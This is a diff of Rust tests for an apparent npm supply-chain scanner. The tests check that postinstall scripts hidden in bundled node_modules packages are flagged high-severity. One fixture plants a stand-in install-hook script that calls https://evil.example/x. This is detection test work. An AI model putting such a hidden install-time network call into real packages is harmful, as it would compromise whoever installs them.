@@ -74,6 +74,77 @@ fn a_binding_that_only_the_archive_holds_makes_npm_build() {
     assert_eq!(report.rules(), ["too-new"], "npm looks at the root only");
 }
 
+const BUNDLED: &str = r#"{"scripts":{"postinstall":"node x.js"}}"#;
+
+/// npm runs the scripts of bundled packages, too, and no registry tells of them.
+#[test]
+fn a_script_of_a_package_that_is_bundled_inside_is_seen() {
+    let script = "require('https').get('https://evil.example/x');\n";
+    let place = "node_modules/@a/b/node_modules/c";
+    let report = bump_with(&[
+        ("package.json", "{}"),
+        (&format!("{place}/package.json"), BUNDLED),
+        (&format!("{place}/x.js"), script),
+        ("x.js", "console.log('another');\n"),
+    ]);
+    let finding = report.only("suspicious-release");
+    assert_eq!(finding["severity"], "high");
+    let told = message(finding);
+    let run = format!("its postinstall script `cd {place} && node x.js` runs");
+    assert!(told.starts_with(&run), "{told}");
+    let does = format!("{place}/x.js of its postinstall script opens a network");
+    assert!(told.contains(&does), "{told}");
+}
+
+/// What is bundled beside it may pass for any tool.
+#[test]
+fn nothing_that_a_bundled_script_does_clears_it() {
+    let harmless = r#"{"scripts":{"postinstall":"echo hello"}}"#;
+    for (path, text) in [
+        ("node_modules/b/package.json", harmless),
+        ("node_modules/b/binding.gyp", "{}"),
+    ] {
+        let manifest = ("node_modules/b/package.json", "{}");
+        let files = [("package.json", "{}"), manifest, (path, text)];
+        // A path that is there twice would be read in two ways.
+        let files: Vec<_> = match path {
+            "node_modules/b/package.json" => vec![files[0], files[2]],
+            _ => files.to_vec(),
+        };
+        let report = bump_with(&files);
+        let finding = report.only("suspicious-release");
+        assert_eq!(finding["severity"], "high", "{path}");
+    }
+}
+
+#[test]
+fn manifests_that_npm_does_not_read_run_nothing() {
+    for path in [
+        "test/package.json",
+        "node_modules/package.json",
+        "node_modules/b/test/package.json",
+        "test/node_modules/b/package.json",
+    ] {
+        let report = bump_with(&[("package.json", "{}"), (path, BUNDLED)]);
+        assert_eq!(report.rules(), ["too-new"], "{path}");
+    }
+}
+
+#[test]
+fn scripts_that_the_archive_before_bundled_too_are_no_first_ones() {
+    let registries = Registries::start();
+    let package = Packument::new("acme").routine(10, &unlisted());
+    registries.npm(&package.release("1.10.0", LATELY, &unlisted()));
+    let bundled = ("node_modules/b/package.json", BUNDLED);
+    let archive = tarball(&[("package.json", "{}"), bundled]);
+    for place in [ARCHIVE, "/npm/acme/-/acme-1.9.0.tgz"] {
+        registries
+            .server
+            .answer(place, Answer::Bytes(archive.clone()));
+    }
+    assert_eq!(bump_of(&registries).rules(), ["too-new"]);
+}
+
 #[test]
 fn an_ordinary_archive_adds_nothing_and_counts_as_looked_at() {
     let manifest = r#"{"scripts":{"build":"tsc","prepare":"husky"}}"#;
@@ -91,6 +162,14 @@ fn what_is_no_archive_is_not_judged_and_never_clean() {
         tarball(&[("package.json", "{")]),
         tarball(&[("x.js", "1")]),
         tarball(&[("package.json", "{}"), ("PACKAGE.JSON", "{}")]),
+        tarball(&[("node_modules/b/package.json", "{}")]),
+        tarball(&[("package.json", "{}"), ("node_modules/b/package.json", "{")]),
+        tarball(&[
+            ("package.json", "{}"),
+            ("node_modules/b/package.json", "{}"),
+            ("node_modules/c/package.json", "{}"),
+            ("Node_Modules/B/package.json", "{}"),
+        ]),
     ] {
         let registries = with_archive("echo hello", &[]);
         registries.server.answer(ARCHIVE, Answer::Bytes(bytes));
